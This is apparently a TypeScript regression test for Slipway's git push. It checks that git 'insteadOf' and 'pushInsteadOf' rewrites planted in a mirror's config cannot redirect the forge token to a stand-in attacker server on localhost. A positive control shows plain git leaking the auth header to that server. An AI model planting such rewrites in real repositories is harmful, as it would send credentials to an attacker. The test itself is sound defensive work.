// Security: a URL rewrite planted in the mirror's config cannot send the forge token elsewhere: the
// push reads only the config Slipway writes (breach 4, on the forge's path). Real git smart HTTP on
// 127.0.0.1 for the forge, and a second server standing in for the attacker's.
import assert from "node:assert/strict";
import { execFile, execFileSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { isGitHttpPath, serveGitHttp } from "../../src/forge/git-http-server.ts";
import { authEnvironment, type HttpsGitRemote, pushOverHttps } from "../../src/forge/https-git.ts";
import { ensureMirror } from "../../src/workspace/mirror-cache.ts";
import { commitAll, createWorktree, removeWorktree } from "../../src/workspace/worktree.ts";
import { git, makeRepo, tempDir } from "../helpers/git-fixture.ts";

const token = "ghs_canaryToken0123456789abcdef";
const expected = `Basic ${Buffer.from(`x-access-token:${token}`).toString("base64")}`;
const attackerSaw: string[] = [];
let forge: Server;
let attacker: Server;
let root = "";

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe("the forge push and a planted URL rewrite (breach 4)", () => {
  let forgeUrl = "";
  let attackerUrl = "";
  before(async () => {
    root = tempDir("push");
    forge = createServer((request, response) => {
      const url = new URL(request.url ?? "/", "http://double.invalid");
      if (!isGitHttpPath(url.pathname)) return void response.writeHead(404).end();
      void serveGitHttp(request, response, {
        projectRoot: path.join(root, "hosted"),
        authorize: (header) => (header === expected ? 200 : 401),
      });
    });
    attacker = createServer((request, response) => {
      attackerSaw.push(`${request.url} ${request.headers.authorization ?? "(no authorization)"}`);
      response.writeHead(404).end();
    });
    forgeUrl = await listen(forge);
    attackerUrl = await listen(attacker);
  });
  after(async () => {
    await new Promise<void>((resolve) => forge.close(() => resolve()));
    await new Promise<void>((resolve) => attacker.close(() => resolve()));
    rmSync(root, { recursive: true, force: true });
  });

  test("the push goes to the forge's URL, and the token never reaches the rewrite's target", async () => {
    const source = makeRepo({ "a.txt": "one\n" });
    const hosted = path.join(root, "hosted", "acme", "api.git");
    mkdirSync(path.dirname(hosted), { recursive: true });
    git(root, "clone", "--quiet", "--bare", source, hosted);
    git(hosted, "config", "http.receivepack", "true");
    rmSync(source, { recursive: true, force: true });
    const dataDir = path.join(root, "data");
    const { mirrorPath } = await ensureMirror(hosted, dataDir);
    const worktreePath = path.join(dataDir, "worktrees", "run-1");
    await createWorktree({ mirrorPath, baseRef: "main", branch: "slipway/push", worktreePath });
    writeFileSync(path.join(worktreePath, "a.txt"), "two\n");
    const committer = { name: "Slipway", email: "slipway@localhost" };
    const commit = (await commitAll({ mirrorPath, worktreePath, message: "change", committer }))!;
    await removeWorktree(mirrorPath, worktreePath);
    const remote: HttpsGitRemote = {
      forgeName: "GitHub",
      url: `${forgeUrl}/acme/api.git`,
      username: "x-access-token",
      token,
      tokenVariable: "GITHUB_TOKEN",
      pushRightsHint: "contents: write",
    };
    const plant = (): void => {
      for (const key of [`url.${attackerUrl}/.insteadOf`, `url.${attackerUrl}/.pushInsteadOf`]) {
        execFileSync("git", ["config", "--file", path.join(mirrorPath, "config"), key, `${forgeUrl}/`]);
      }
    };

    // Positive control: plain git with the planted rewrite sends the header to the attacker.
    plant();
    const controlEnv = {
      ...authEnvironment({ ...remote, token: "control-token" }),
      GIT_TERMINAL_PROMPT: "0",
    };
    // Asynchronous: the servers answer from this process's event loop.
    await promisify(execFile)(
      "git",
      ["--git-dir", mirrorPath, "push", remote.url, `${commit}:refs/heads/probe`],
      {
        env: { ...process.env, ...controlEnv },
        timeout: 60_000,
      },
    ).catch(() => undefined); // It fails (the attacker answers 404): what it sent is the evidence.
    assert.ok(
      attackerSaw.some((line) => line.includes("Basic")),
      attackerSaw.join("\n"),
    );
    attackerSaw.length = 0;

    plant();
    // A failure is kept, not thrown, so that where the token went is what the test reports.
    const outcome = await pushOverHttps(remote, {
      mirrorPath,
      branch: "slipway/push",
      commit,
      expectedRemoteSha: null,
      signal: AbortSignal.timeout(60_000),
    }).then(
      () => "pushed",
      (error: Error) => error.message,
    );
    assert.deepEqual(attackerSaw, [], "the attacker's server saw no request");
    assert.equal(outcome, "pushed");
    assert.equal(git(hosted, "rev-parse", "refs/heads/slipway/push"), commit);
  });
});
